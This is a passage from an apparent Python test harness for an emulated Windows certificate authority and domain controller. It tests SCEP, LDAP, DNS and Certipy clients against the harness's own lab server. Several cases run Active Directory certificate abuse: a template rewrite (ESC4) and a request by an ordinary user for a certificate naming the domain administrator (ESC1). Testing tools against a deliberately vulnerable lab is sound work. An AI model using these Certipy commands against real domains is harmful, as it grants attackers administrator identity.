    realm(ctx)
    exe = tool("curl", "curl")
    env = dict(os.environ, KRB5_CONFIG=realm(ctx)["krb5_conf"],
               KRB5CCNAME="FILE:" + os.path.join(ctx.workdir, "empty"))
    r = subprocess.run([exe, "-s", "-o", "/dev/null", "-w", "%{http_code}", "--negotiate", "-u", ":",
                        "--cacert", ctx.server.info["root_cert"], base(ctx)], env=env,
                       capture_output=True, text=True, timeout=60)
    check(r.stdout.strip() == "401", "status %r" % r.stdout)


# --------------------------------------------------------------------------
# NDES / SCEP (every server runs with --ndes): micromdm's scepclient
# (Debian `scep`), strongSwan's `pki` (Debian `strongswan-pki`, with
# `libstrongswan-extra-plugins` for its curl fetcher) and certmonger's
# scep-submit, over plain HTTP as NDES is usually reached. Challenge
# passwords come from mscep_admin over NTLM, as Fleet's NDES proxy gets them.
# --------------------------------------------------------------------------

SCEP_SUBMIT = "/usr/lib/certmonger/scep-submit"


def tool(exe, package):
    found = shutil.which(exe) or (exe if os.path.isfile(exe) else None)
    if not found:
        raise Skip("%s is not installed (Debian package %s)" % (exe, package))
    return found


def ndes_url(ctx):
    url = ctx.server.info.get("ndes_url")
    check(url, "the ready file has no ndes_url")
    return url


def ndes_challenge(ctx):
    """A one-time password from mscep_admin: alice's on an enterprise CA
    (she may enroll on the NDES template), the administrator's on a
    stand-alone CA (no templates there)."""
    from requests_ntlm import HttpNtlmAuth

    info = ctx.server.info
    if ctx.server.mode == "enterprise":
        user, password = ALICE
    else:
        user, password = info["admin"]["user"], info["admin"]["password"]
    r = requests.get(info["ndes_admin_url"], auth=HttpNtlmAuth(user, password), timeout=30)
    check(r.status_code == 200, "mscep_admin answered %s" % r.status_code)
    page = r.content.decode("utf-16-le")
    m = re.search(r"The enrollment challenge password is: <B> ([0-9A-F]{16}) </B>", page)
    check(m, "no challenge password on mscep_admin: %s" % page[:300])
    return m.group(1)


def run_tool(cmd, cwd, timeout=120, **kw):
    log("running: %s" % " ".join(cmd))
    r = subprocess.run(cmd, cwd=cwd, capture_output=True, timeout=timeout, **kw)
    log("exit %s\n%s%s" % (r.returncode, r.stdout.decode(errors="replace"), r.stderr.decode(errors="replace")))
    return r


def openssl_verify(ctx, cert_path):
    exe = tool("openssl", "openssl")
    s = ctx.server.info
    r = run_tool([exe, "verify", "-CAfile", s["root_cert"], "-untrusted", s["ca_cert"], cert_path], ctx.workdir)
    check(r.returncode == 0, "openssl verify: %s" % (r.stdout + r.stderr).decode(errors="replace").strip())


def scepclient(ctx, name, challenge):
    """One scepclient run in its own folder (it keeps its self-signed
    signer certificate in the working directory)."""
    exe = tool("scepclient", "scep")
    where = os.path.join(ctx.workdir, name)
    os.makedirs(where, exist_ok=True)
    key = os.path.join(where, name + ".key")
    cert = os.path.join(where, name + ".pem")
    r = run_tool([exe, "-server-url", ndes_url(ctx), "-challenge", challenge, "-private-key", key,
                  "-certificate", cert, "-cn", name, "-organization", "Contoso", "-ou", "Network",
                  "-country", "US"], where)
    return r, key, cert


@case("scep.scepclient_enrolls_once_with_a_one_time_challenge", modes=("enterprise",), transports=("http",))
def _(ctx):
    pw = ndes_challenge(ctx)
    r, key_path, cert_path = scepclient(ctx, "router01.contoso.test", pw)
    check(r.returncode == 0 and os.path.exists(cert_path),
          "scepclient exited %s: %s" % (r.returncode, out_tail(r.stderr.decode(errors="replace"))))
    openssl_verify(ctx, cert_path)
    with open(cert_path, "rb") as f:
        cert = x509.load_pem_x509_certificate(f.read())
    with open(key_path, "rb") as f:
        key = serialization.load_pem_private_key(f.read(), None)
    check(same_key(cert.public_key(), key.public_key()), "the certificate is not for scepclient's key")
    check(cn_of(cert.subject) == "router01.contoso.test", "subject %s" % cert.subject.rfc4514_string())
    # The same password again: NDES refuses it (FAILURE, badRequest).
    r, _, cert2 = scepclient(ctx, "router02.contoso.test", pw)
    said = (r.stdout + r.stderr).decode(errors="replace")
    check(not os.path.exists(cert2), "a used challenge was accepted again")
    check("failInfo: badRequest" in said, "scepclient did not report badRequest: %s" % said[-300:])


@case("scep.scepclient_wrong_challenge_fails", modes=("enterprise",), transports=("http",))
def _(ctx):
    r, _, cert = scepclient(ctx, "router03.contoso.test", "0123456789ABCDEF")
    said = (r.stdout + r.stderr).decode(errors="replace")
    check(not os.path.exists(cert), "a wrong challenge was accepted")
    check("failInfo: badRequest" in said, "scepclient did not report badRequest: %s" % said[-300:])


def pki(ctx, *args, timeout=120):
    exe = tool("pki", "strongswan-pki")
    return run_tool([exe] + list(args), ctx.workdir, timeout=timeout)


def pki_scepca(ctx):
    """`pki --scepca`: the CA certificate and the RA signing and encryption
    certificates, told apart by their key usage."""
    r = pki(ctx, "--scepca", "--url", ndes_url(ctx), "--caout", "ca.der", "--raout", "ra.der", "--force")
    check(r.returncode == 0, "pki --scepca exited %s: %s" % (r.returncode, out_tail(r.stderr.decode(errors="replace"))))
    files = sorted(f for f in os.listdir(ctx.workdir) if f.endswith(".der"))
    ca, ras = None, []
    for name in files:
        with open(os.path.join(ctx.workdir, name), "rb") as f:
            cert = x509.load_der_x509_certificate(f.read())
        if name.startswith("ca"):
            ca = cert
        else:
            ras.append((os.path.join(ctx.workdir, name), cert))
    check(ca == ctx.server.ca_cert(), "pki --scepca wrote %s, not the CA certificate" % files)
    check(len(ras) == 2, "RA certificates written: %s" % files)
    by_use = {}
    for path, cert in ras:
        ku = cert.extensions.get_extension_for_class(x509.KeyUsage).value
        check_issued_by(cert, ca)
        by_use["enc" if ku.key_encipherment else "sig" if ku.digital_signature else "?"] = path
    check(set(by_use) == {"enc", "sig"}, "RA key usages: %s" % sorted(by_use))
    return os.path.join(ctx.workdir, "ca.der"), by_use["sig"], by_use["enc"]


@case("scep.strongswan_pki_scepca_gets_the_ca_and_both_ra_certificates", transports=("http",))
def _(ctx):
    pki_scepca(ctx)


def pki_enroll(ctx, cn, challenge, extra=(), timeout=120, wait=True):
    ca, sig, enc = pki_scepca(ctx)
    r = pki(ctx, "--gen", "--type", "rsa", "--size", "2048", "--outform", "pem")
    check(r.returncode == 0, "pki --gen failed")
    key_path = os.path.join(ctx.workdir, "vpn.key")
    with open(key_path, "wb") as f:
        f.write(r.stdout)
    cmd = ["--scep", "--url", ndes_url(ctx), "--in", key_path, "--dn", "C=US, O=Contoso, CN=%s" % cn,
           "--password", challenge, "--cacert-enc", enc, "--cacert-sig", sig, "--cacert", ca,
           "--cipher", "des3", "--outform", "pem"] + list(extra)
    if wait:
        return pki(ctx, *cmd, timeout=timeout), key_path
    exe = tool("pki", "strongswan-pki")
    return subprocess.Popen([exe] + cmd, cwd=ctx.workdir, stdout=subprocess.PIPE, stderr=subprocess.PIPE), key_path


def check_pki_cert(ctx, pem_bytes, key_path, cn):
    cert = x509.load_pem_x509_certificate(pem_bytes)
    with open(key_path, "rb") as f:
        key = serialization.load_pem_private_key(f.read(), None)
    check(same_key(cert.public_key(), key.public_key()), "the certificate is not for pki's key")
    check(cn_of(cert.subject) == cn, "subject %s" % cert.subject.rfc4514_string())
    path = os.path.join(ctx.workdir, "issued.pem")
    with open(path, "wb") as f:
        f.write(pem_bytes)
    openssl_verify(ctx, path)


@case("scep.strongswan_pki_enrolls", modes=("enterprise",), transports=("http",))
def _(ctx):
    r, key_path = pki_enroll(ctx, "vpn01.contoso.test", ndes_challenge(ctx))
    check(r.returncode == 0, "pki --scep exited %s: %s" % (r.returncode, out_tail(r.stderr.decode(errors="replace"))))
    check_pki_cert(ctx, r.stdout, key_path, "vpn01.contoso.test")


@case("scep.strongswan_pki_polls_until_a_manager_approves", modes=("standalone",), transports=("http",))
def _(ctx):
    # A stand-alone CA leaves every request pending: pki polls (GetCertInitial)
    # until the request is issued through the control plane.
    before = ctx.server.pending_listing()
    proc, key_path = pki_enroll(ctx, "vpn02.contoso.test", ndes_challenge(ctx),
                                extra=["--interval", "1", "--maxpolltime", "90"], wait=False)
    try:
        deadline = time.monotonic() + 60
        req_id = None
        while req_id is None and time.monotonic() < deadline:
            ids = set(re.findall(r"^\s*(\d+)\b", ctx.server.pending_listing(), re.M))
            new = ids - set(re.findall(r"^\s*(\d+)\b", before, re.M))
            req_id = int(max(new, key=int)) if new else None
            if req_id is None:
                if proc.poll() is not None:
                    raise Fail("pki --scep ended before its request was pending: %s"
                               % out_tail(proc.stderr.read().decode(errors="replace")))
                time.sleep(0.3)
        check(req_id is not None, "no pending request appeared within 60 s")
        ctx.server.issue(req_id)
        out, err = proc.communicate(timeout=90)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    check(proc.returncode == 0, "pki --scep exited %s: %s" % (proc.returncode, out_tail(err.decode(errors="replace"))))
    check_pki_cert(ctx, out, key_path, "vpn02.contoso.test")


@case("scep.certmonger_scep_submit_reads_caps_and_ca_certificates", transports=("http",))
def _(ctx):
    exe = tool(SCEP_SUBMIT, "certmonger")
    r = run_tool([exe, "-u", ndes_url(ctx), "-c"], ctx.workdir)
    caps = r.stdout.decode(errors="replace")
    check(r.returncode == 0 and "SHA-256" in caps and "Renewal" in caps,
          "scep-submit -c exited %s: %r" % (r.returncode, caps + r.stderr.decode(errors="replace")))
    r = run_tool([exe, "-u", ndes_url(ctx), "-C"], ctx.workdir)
    text = r.stdout.decode(errors="replace")
    certs = [x509.load_pem_x509_certificate(b.encode()) for b in
             re.findall(r"-----BEGIN CERTIFICATE-----.*?-----END CERTIFICATE-----", text, re.S)]
    check(r.returncode == 0 and ctx.server.ca_cert() in certs and len(certs) == 3,
          "scep-submit -C exited %s with %d certificates: %s" % (r.returncode, len(certs), out_tail(text + r.stderr.decode(errors="replace"))))


@case("scep.malformed_pkioperation_is_http_500", transports=("http",))
def _(ctx):
    url = ndes_url(ctx) + "?operation=PKIOperation"
    for body in (b"\x30\x03\x02\x01\x05", b"garbage"):
        r = requests.post(url, data=body, headers={"Content-Type": "application/x-pki-message"}, timeout=30)
        check(r.status_code == 500, "POST %r answered %s" % (body, r.status_code))
    r = requests.get(ndes_url(ctx) + "?operation=GetCACaps", timeout=30)
    check(r.status_code == 200 and "SHA-256" in r.text, "GetCACaps after malformed messages: %s" % r.status_code)

# --------------------------------------------------------------------------
# The directory (LDAP on 389, LDAPS on 636): OpenLDAP's ldapsearch, python
# ldap3 2.9.1 with NTLM and paging, and `certipy find` (4.8.2 and 5.1.0)
# over LDAPS and LDAP with NTLM and 5.x's simple bind. Certipy exits 0 on
# errors, so its cases read what it prints. Without a DNS server for the
# CA's name Certipy spends about 5 s per lookup and reports web
# enrollment and the CA's registry settings as unknown.
# --------------------------------------------------------------------------

DEFAULT_TEMPLATES = ("WebServer", "Machine", "User", "IPSECIntermediateOffline",
                     "OperationsManager", "WebServerApproval")


def ldap_possible(binary):
    """Clients find the directory on 389 and 636 only (root); the Windows
    build's directory is covered by its Rust tests under Wine."""
    return not binary.lower().endswith(".exe") and hasattr(os, "geteuid") and os.geteuid() == 0


def ldap_server(ctx):
    info = ctx.server.info.get("ldap")
    if not info:
        if not ldap_possible(ctx.server.binary):
            raise Skip("the directory needs ports 389 and 636: run as root (CI does), not under Wine")
        raise Fail("the server was started with --ldap but its ready file has no ldap object")
    return info


def ldapsearch(ctx, *args, url=None):
    if not shutil.which("ldapsearch"):
        raise Skip("ldapsearch not installed (apt-get install ldap-utils)")
    info = ldap_server(ctx)
    env = dict(os.environ, LDAPTLS_CACERT=ctx.server.info["root_cert"], LDAPTLS_REQCERT="demand")
    cmd = ["ldapsearch", "-LLL", "-o", "nettimeout=15", "-H", url or info["url"]] + list(args)
    log("ldapsearch: %s" % " ".join(cmd))
    return subprocess.run(cmd, capture_output=True, text=True, timeout=60, env=env)


def ldap_journal(ctx, path):
    since = getattr(ctx, "journal_from", 0)
    return [e for e in journal(ctx) if e.get("seq", 0) > since and e.get("path") == path]


@case("ldap.ldapsearch_simple_bind_over_ldap_and_ldaps", transports=("http",))
def _(ctx):
    info = ldap_server(ctx)
    for url in (info["url"], info["ldaps_url"]):
        r = ldapsearch(ctx, "-x", "-D", "alice@contoso.test", "-w", ALICE[1], "-b", info["domain_dn"],
                       "(sAMAccountName=alice)", "sAMAccountName", "userPrincipalName", url=url)
        check(r.returncode == 0, "%s: exit %s: %s" % (url, r.returncode, r.stderr.strip()))
        check("sAMAccountName: alice" in r.stdout, "%s: %s" % (url, r.stdout))
        check("userPrincipalName: alice@contoso.test" in r.stdout, "%s: %s" % (url, r.stdout))
    binds = [(e.get("method"), e.get("user"), e.get("auth")) for e in ldap_journal(ctx, "ldap/bind") if e.get("status") == 0]
    check(("LDAPS", "CONTOSO\\alice", "simple") in binds and ("LDAP", "CONTOSO\\alice", "simple") in binds,
          "bind journal: %s" % binds)


@case("ldap.ldapsearch_starttls_and_the_root_dse", transports=("http",))
def _(ctx):
    info = ldap_server(ctx)
    r = ldapsearch(ctx, "-x", "-ZZ", "-b", "", "-s", "base", "(objectClass=*)",
                   "defaultNamingContext", "ldapServiceName", "dnsHostName")
    check(r.returncode == 0, "exit %s: %s" % (r.returncode, r.stderr.strip()))
    check("defaultNamingContext: %s" % info["domain_dn"] in r.stdout, r.stdout)
    check("ldapServiceName: contoso.test:dc01$@CONTOSO.TEST" in r.stdout, r.stdout)


@case("dns.dig_finds_the_dc_by_srv_and_the_ca_host", transports=("http",))
def _(ctx):
    if not shutil.which("dig"):
        raise Skip("dig not installed (apt-get install bind9-dnsutils)")
    info = ldap_server(ctx)
    dns = ctx.server.info.get("dns")
    check(dns, "the server was started with --dns but its ready file has no dns")
    host, port = dns.rsplit(":", 1)
    ldap_port = info["url"].rsplit(":", 1)[1]

    def dig(*args):
        r = subprocess.run(["dig", "+short", "+time=5", "+tries=1", "@" + host, "-p", port] + list(args),
                           capture_output=True, text=True, timeout=30)
        check(r.returncode == 0, "dig %s: exit %s %s" % (args, r.returncode, r.stderr))
        return r.stdout.split()

    check(dig("-t", "SRV", "_ldap._tcp.dc._msdcs.contoso.test") == ["0", "100", ldap_port, "dc01.contoso.test."],
          "SRV answer")
    check(dig("+tcp", "-t", "SRV", "_ldap._tcp.contoso.test")[-1:] == ["dc01.contoso.test."], "SRV over TCP")
    check(dig(CA_HOST) == [ctx.server.host], "the CA's host")
    check(dig("dc01.contoso.test") == [ctx.server.host], "the DC")


@case("ldap.ldapsearch_wrong_password_is_49_data_52e", transports=("http",))
def _(ctx):
    r = ldapsearch(ctx, "-x", "-D", "alice@contoso.test", "-w", WRONG_PASSWORD, "-b", "", "-s", "base")
    check(r.returncode == 49, "exit %s (want 49): %s" % (r.returncode, r.stderr.strip()))
    check("data 52e" in r.stderr, r.stderr)


@case("ldap.ldap3_ntlm_pages_through_the_templates", transports=("http",))
def _(ctx):
    import ldap3
    info = ldap_server(ctx)
    host, port = info["url"].rsplit("/", 1)[1].rsplit(":", 1)
    server = ldap3.Server(host, port=int(port), get_info=ldap3.ALL, connect_timeout=15)
    conn = ldap3.Connection(server, user=ALICE[0], password=ALICE[1], authentication=ldap3.NTLM,
                            receive_timeout=30)
    check(conn.bind(), "NTLM bind: %s" % conn.result)
    check(server.info.other["defaultNamingContext"] == [info["domain_dn"]], "rootDSE %r" % server.info.other)
    base = "CN=Certificate Templates,CN=Public Key Services,CN=Services," + info["configuration_dn"]
    found = list(conn.extend.standard.paged_search(base, "(objectClass=pKICertificateTemplate)",
                                                   attributes=["cn", "objectGUID", "msPKI-Certificate-Name-Flag"],
                                                   paged_size=2, generator=True))
    names = sorted(e["attributes"]["cn"] for e in found if e.get("type") == "searchResEntry")
    want = sorted(DEFAULT_TEMPLATES) if ctx.server.mode == "enterprise" else []
    check(names == want, "templates %r, want %r" % (names, want))
    for e in found:
        if e.get("type") == "searchResEntry":
            check(re.fullmatch(r"\{[0-9a-f-]{36}\}", e["attributes"]["objectGUID"]), "objectGUID %r" % e["attributes"])
    conn.search(info["domain_dn"], "(sAMAccountName=alice)", attributes=["objectSid", "memberOf"])
    check(len(conn.entries) == 1 and str(conn.entries[0].objectSid).startswith("S-1-5-21-"), "alice: %r" % conn.entries)
    check(conn.extend.standard.who_am_i() == "u:CONTOSO\\alice", "whoami")
    conn.unbind()


def certipy_find(ctx, exe, extra):
    ldap_server(ctx)
    return run_certipy(ctx, exe + ["find", "-u", "alice@contoso.test", "-p", ALICE[1],
                                   "-dc-ip", ctx.server.host, "-timeout", "5", "-stdout"] + list(extra))


def check_find_output(ctx, out, escs=("ESC1",)):
    """What `certipy find -stdout` must say of the harness's CA and templates."""
    if ctx.server.mode == "standalone":
        expect(out, "Found 0 certificate templates")
        expect(out, "Found 0 certificate authorit")
        return
    ca = ctx.server.ca_cert()
    expect(out, "Found %d certificate templates" % len(DEFAULT_TEMPLATES))
    expect(out, "Found 1 certificate authority")
    check(re.search(r"CA Name\s+: %s\n" % re.escape(ctx.server.ca_name()), out), "CA name: %s" % out_tail(out))
    check(re.search(r"DNS Name\s+: %s\n" % re.escape(CA_HOST), out), "CA DNS name: %s" % out_tail(out))
    serial = "%X" % ca.serial_number
    check(re.search(r"Certificate Serial Number\s+: 0*%s\n" % serial, out), "serial %s: %s" % (serial, out_tail(out)))
    for t in DEFAULT_TEMPLATES:
        check(re.search(r"Template Name\s+: %s\n" % t, out), "template %s not listed: %s" % (t, out_tail(out)))
    check(re.search(r"Owner\s+: CONTOSO.TEST\\Enterprise Admins", out), "owner: %s" % out_tail(out))
    expect(out, "CONTOSO.TEST\\Domain Users", "User's enrollment rights")
    # What the default configuration implies by each version's rules:
    # OperationsManager (enrollee supplies subject, client authentication,
    # Authenticated Users enroll) is ESC1 for both; 5.x also flags the
    # schema-1 templates with an enrollee-supplied subject (ESC15) and
    # enrollee-supplied server certificates (ESC17).
    # Web enrollment on IIS's port 80 (served where it can be bound, as
    # by root here): ESC8, as on a CA with the Web Enrollment role.
    if ctx.server.info.get("iis"):
        escs = tuple(escs) + ("ESC8",)
    if ctx.server.info.get("smb"):
        # The CA's registry over \pipe\winreg: a patched CA's settings.
        enforced = "Enabled" if ctx.server.transport == "http" else "Disabled"
        for field, value in (("User Specified SAN", "Disabled"), ("Request Disposition", "Issue"),
                             ("Enforce Encryption for Requests", enforced)):
            check(re.search(r"%s\s+: %s\n" % (field, value), out), "%s: %s" % (field, out_tail(out)))
        check(re.search(r"Enroll\s+: CONTOSO.TEST\\Authenticated Users", out), "CA enroll rights: %s" % out_tail(out))
        if enforced == "Disabled":
            escs = tuple(escs) + ("ESC11",)
    flagged = sorted(set(re.findall(r"\b(ESC\d+)\s+:", out)))
    check(flagged == sorted(escs), "ESCs flagged %r, want %r: %s" % (flagged, list(escs), out_tail(out)))


def check_find_journal(ctx, method, auth="ntlm"):
    binds = [(e.get("method"), e.get("user"), e.get("auth")) for e in ldap_journal(ctx, "ldap/bind") if e.get("status") == 0]
    check((method, "CONTOSO\\alice", auth) in binds, "bind journal: %s" % binds)


@case("certipy.find_vulnerable_over_ldaps_with_ntlm", transports=("http",))
def _(ctx):
    out = certipy_find(ctx, certipy_exe(), [])
    check_find_output(ctx, out)
    check_find_journal(ctx, "LDAPS")


@case("certipy.find_over_plain_ldap_with_ntlm", modes=("enterprise",), transports=("http",))
def _(ctx):
    out = certipy_find(ctx, certipy_exe(), ["-scheme", "ldap", "-vulnerable"])
    expect(out, "Template Name                       : OperationsManager")
    expect(out, "ESC1")
    check_find_journal(ctx, "LDAP")


@case("certipy5.find_over_ldaps_with_ntlm_and_channel_binding", transports=("http",))
def _(ctx):
    out = certipy_find(ctx, certipy5_exe(), [])
    check_find_output(ctx, out, escs=("ESC1", "ESC15", "ESC17"))
    check_find_journal(ctx, "LDAPS")


@case("certipy5.find_over_plain_ldap_with_ntlm_sealing", modes=("enterprise",), transports=("http",))
def _(ctx):
    out = certipy_find(ctx, certipy5_exe(), ["-ldap-scheme", "ldap", "-vulnerable"])
    expect(out, "OperationsManager")
    expect(out, "ESC1")
    check_find_journal(ctx, "LDAP", auth="ntlm sealed")


@case("certipy5.find_json_with_a_simple_bind", modes=("enterprise",), transports=("http",))
def _(ctx):
    ldap_server(ctx)
    run_certipy(ctx, certipy5_exe() + ["find", "-u", "alice@contoso.test", "-p", ALICE[1], "-dc-ip", ctx.server.host,
                                       "-timeout", "5", "-ldap-simple-auth", "-json", "-output", "harness"])
    path = os.path.join(ctx.workdir, "harness_Certipy.json")
    check(os.path.exists(path), "no %s: %s" % (path, os.listdir(ctx.workdir)))
    with open(path, encoding="utf-8") as f:
        report = json.load(f)
    cas = report.get("Certificate Authorities", {})
    check(len(cas) == 1, "CAs %r" % cas)
    ca = next(iter(cas.values()))
    check(ca.get("CA Name") == ctx.server.ca_name(), "CA %r" % ca)
    templates = sorted(t.get("Template Name") for t in report.get("Certificate Templates", {}).values())
    check(templates == sorted(DEFAULT_TEMPLATES), "templates %r" % templates)
    binds = [(e.get("user"), e.get("auth")) for e in ldap_journal(ctx, "ldap/bind") if e.get("status") == 0]
    check(("CONTOSO\\alice", "simple") in binds, "bind journal: %s" % binds)


# Kerberos binds to the directory (the server's realm; the DC's ldap/,
# host/ and HOST/ principals are in its keytab): ldapsearch -Y GSSAPI
# (Cyrus SASL, RFC 4752's security layer: it picks confidentiality off
# TLS) and Certipy 5 `find -k` (GSS-SPNEGO; sealed with Kerberos off TLS).
# Tickets come from kinit and kvno, as for the pages.


def check_ldap_kerberos_journal(ctx, method, auth):
    binds = [(e.get("method"), e.get("user"), e.get("auth")) for e in ldap_journal(ctx, "ldap/bind")
             if e.get("status") == 0]
    check((method, "CONTOSO\\alice", auth) in binds, "bind journal: %s" % binds)


@case("ldap.ldapsearch_gssapi_with_a_kinit_ticket", modes=("enterprise",), transports=("http",))
def _(ctx):
    if not shutil.which("ldapsearch"):
        raise Skip("ldapsearch not installed (apt-get install ldap-utils)")
    if not any(os.path.exists(p) for p in ("/usr/lib/x86_64-linux-gnu/sasl2/libgssapiv2.so",
                                              "/usr/lib/aarch64-linux-gnu/sasl2/libgssapiv2.so")):
        raise Skip("Cyrus SASL's GSSAPI module is not installed (apt-get install libsasl2-modules-gssapi-mit)")
    info = ldap_server(ctx)
    env = signed_in_alice(ctx)
    cmd = ["ldapsearch", "-LLL", "-Y", "GSSAPI", "-N", "-o", "nettimeout=15", "-H", info["url"],
           "-b", info["domain_dn"], "(sAMAccountName=alice)", "sAMAccountName"]
    log("ldapsearch: %s" % " ".join(cmd))
    r = subprocess.run(cmd, capture_output=True, text=True, timeout=60, env=env)
    check(r.returncode == 0, "exit %s: %s" % (r.returncode, r.stderr.strip()))
    check("sAMAccountName: alice" in r.stdout, r.stdout)
    check_ldap_kerberos_journal(ctx, "LDAP", "kerberos sealed")


def certipy_find_k(ctx, exe, spn, extra):
    """`find -k` from a ticket cache: kinit and kvno get the tickets
    (impacket's own TGS exchange fails against MIT, see above)."""
    ldap_server(ctx)
    env = signed_in_alice(ctx)
    kvno = tool("kvno", "krb5-user")
    r = subprocess.run([kvno, spn], env=env, capture_output=True, timeout=60)
    check(r.returncode == 0, "kvno: %s" % (r.stdout + r.stderr).decode(errors="replace"))
    cmd = exe + ["find", "-k", "-no-pass", "-u", "alice@contoso.test", "-dc-ip", ctx.server.host,
                 "-target", "dc01.contoso.test", "-timeout", "5", "-stdout"] + list(extra)
    log("certipy: %s" % " ".join(cmd))
    r = subprocess.run(cmd, cwd=ctx.workdir, env=env, capture_output=True, text=True, timeout=CLIENT_TIMEOUT)
    out = r.stdout + "\n" + r.stderr
    log(out)
    expect(out, "Found %d certificate templates" % len(DEFAULT_TEMPLATES))
    expect(out, "Found 1 certificate authority")
    return out


@case("certipy.find_k_over_ldaps_from_a_ticket_cache", modes=("enterprise",), transports=("http",))
def _(ctx):
    certipy_find_k(ctx, certipy_exe(), "host/dc01.contoso.test", [])
    check_ldap_kerberos_journal(ctx, "LDAPS", "kerberos")


@case("certipy5.find_k_over_ldaps_from_a_ticket_cache", modes=("enterprise",), transports=("http",))
def _(ctx):
    certipy_find_k(ctx, certipy5_exe(), "HOST/dc01.contoso.test",
                   ["-dc-host", "dc01.contoso.test", "-ldap-scheme", "ldaps"])
    check_ldap_kerberos_journal(ctx, "LDAPS", "kerberos")


@case("certipy5.find_k_over_ldap_sealed_with_kerberos", modes=("enterprise",), transports=("http",))
def _(ctx):
    certipy_find_k(ctx, certipy5_exe(), "HOST/dc01.contoso.test",
                   ["-dc-host", "dc01.contoso.test", "-ldap-scheme", "ldap"])
    check_ldap_kerberos_journal(ctx, "LDAP", "kerberos sealed")


# certipy template (ESC4): a template rewritten over LDAP by an account its
# DACL lets write it, refused for one it does not; the next request (over
# RPC) is issued from the changed template. Registered last: each changes
# its own template (which then grants Authenticated Users full control)
# for the rest of the server's life.


def admin_upn(ctx):
    return ctx.server.info["admin"]["user"].split("\\")[-1].lower() + "@" + DNS_DOMAIN


def check_template_write(ctx, exe, template, write_args):
    ldap_server(ctx)
    admin_password = ctx.server.info["admin"]["password"]
    base = exe + ["template", "-dc-ip", ctx.server.host, "-template", template] + list(write_args)
    out = run_certipy(ctx, base + ["-u", "alice@contoso.test", "-p", ALICE[1]])
    expect(out, "doesn't have permission to update", "alice's write")
    out = run_certipy(ctx, base + ["-u", admin_upn(ctx), "-p", admin_password])
    expect(out, "Successfully updated '%s'" % template, "the administrator's write")
    modifies = [(e.get("user"), e.get("status")) for e in ldap_journal(ctx, "ldap/modify")]
    check(("CONTOSO\\alice", 50) in modifies and (ctx.server.info["admin"]["user"], 0) in modifies,
          "modify journal: %s" % modifies)


def check_esc1_request(ctx, exe, template):
    s = ctx.server
    rpc_server(ctx)
    out = run_certipy(ctx, exe + ["req", "-u", "alice@contoso.test", "-p", ALICE[1], "-ca", s.ca_name(),
                                  "-target-ip", s.host, "-dc-ip", s.host, "-dynamic-endpoint",
                                  "-template", template, "-upn", "administrator@contoso.test", "-timeout", "15"])
    expect(out, "Got certificate with UPN 'administrator@contoso.test'")
    pfx = files_with(ctx.workdir, ".pfx")
    check(pfx, "no .pfx: %s" % out_tail(out))
    _key, cert = load_pfx(os.path.join(ctx.workdir, pfx[0]))
    check([u.lower() for u in san_upns(cert)] == ["administrator@contoso.test"], "pfx UPN %r" % san_upns(cert))
    check_issued_by(cert, s.ca_cert())


@case("certipy5.template_write_default_configuration_then_esc1", modes=("enterprise",), transports=("http",))
def _(ctx):
    exe = certipy5_exe()
    check_template_write(ctx, exe, "IPSECIntermediateOffline",
                         ["-write-default-configuration", "-force", "-no-save"])
    check_esc1_request(ctx, exe, "IPSECIntermediateOffline")


@case("certipy.template_save_old_then_esc1", modes=("enterprise",), transports=("http",))
def _(ctx):
    exe = certipy_exe()
    check_template_write(ctx, exe, "WebServerApproval", [])
    check_esc1_request(ctx, exe, "WebServerApproval")



# The lab (`serve --vulnerable all`): each ESC a minimal misconfiguration,
# listed in the ready file with its template; Certipy finds each one there
# and its abuse gives the certificate the ESC promises. The CA-level ones
# (ESC6, ESC16) are read over remote registry (SMB), which Certipy reports
# as Unknown until it is served; their abuse is checked here.


def lab_findings(ctx):
    found = ctx.server.info.get("vulnerable") or []
    check(found, "the ready file lists no findings: %r" % ctx.server.info)
    return found


def template_escs(out):
    """{template name: [ESCn, …]} from `certipy find -stdout` text; the
    CA's own under "CA"."""
    found, current = {"CA": []}, "CA"
    for line in out.splitlines():
        if line.startswith("Certificate Templates"):
            current = None
        m = re.match(r"\s*Template Name\s+: (.+)$", line)
        if m:
            current = m.group(1).strip()
            found.setdefault(current, [])
            continue
        m = re.match(r"\s*(ESC\d+)\s+:", line)
        if m and current:
            found[current].append(m.group(1))
    return found


def check_lab_find(ctx, exe, known):
    """Certipy `find -vulnerable` flags each finding the ready file lists
    (of the ESCs this Certipy version knows) on its template, or on the CA
    (ESC8 where IIS's port 80 is served), and nothing else on a template."""
    ldap_server(ctx)
    if not ctx.server.info.get("iis"):
        known = tuple(k for k in known if k != "ESC8")
    out = run_certipy(ctx, exe + ["find", "-u", "alice@contoso.test", "-p", ALICE[1],
                                  "-dc-ip", ctx.server.host, "-timeout", "5", "-stdout", "-vulnerable"])
    flagged = template_escs(out)
    want = [(f["esc"], f["target"]) for f in lab_findings(ctx) if f["esc"] in known]
    check(len(want) == len(known), "findings %r for %r" % (want, known))
    for esc, template in want:
        check(esc in flagged.get(template, []), "%s not flagged on %s: %r" % (esc, template, flagged))
        # Each a minimal example: nothing else flagged on it, but ESC3 on
        # ESC2 (Any Purpose includes the Certificate Request Agent EKU).
        if template == "CA":
            continue
        extra = set(flagged.get(template, [])) - {esc} - ({"ESC3"} if esc == "ESC2" else set())
        check(not extra, "%s also flagged %s: %r" % (template, sorted(extra), flagged))
    on_ca = set(flagged["CA"]) - {esc for esc, target in want if target == "CA"}
    check(not on_ca, "the CA also flagged %s: %r" % (sorted(on_ca), flagged))
    return flagged


def check_hardened_find(ctx, exe):
    """A hardened CA (a fresh, patched Windows CA's templates and rights)
    shows what such a CA shows: web enrollment (ESC8), where IIS's port is
    served, and nothing on a template."""
    ldap_server(ctx)
    smb_server(ctx)
    out = run_certipy(ctx, exe + ["find", "-u", "alice@contoso.test", "-p", ALICE[1],
                                  "-dc-ip", ctx.server.host, "-timeout", "5", "-stdout", "-vulnerable"])
    expect(out, "Found 3 enabled certificate templates")
    flagged = template_escs(out)
    want = ["ESC8"] if ctx.server.info.get("iis") else []
    check(flagged.pop("CA") == want, "the CA flagged %r, want %r" % (template_escs(out)["CA"], want))
    check(not any(flagged.values()), "templates flagged: %r" % flagged)


@case("certipy5.find_on_a_hardened_ca_shows_only_web_enrollment", modes=("hardened",), transports=("http",))
def _(ctx):
    check_hardened_find(ctx, certipy5_exe())


@case("certipy.find_on_a_hardened_ca_shows_only_web_enrollment", modes=("hardened",), transports=("http",))
def _(ctx):
    check_hardened_find(ctx, certipy_exe())


@case("certipy5.find_flags_each_lab_esc_on_its_template", modes=("lab",), transports=("https",))
def _(ctx):
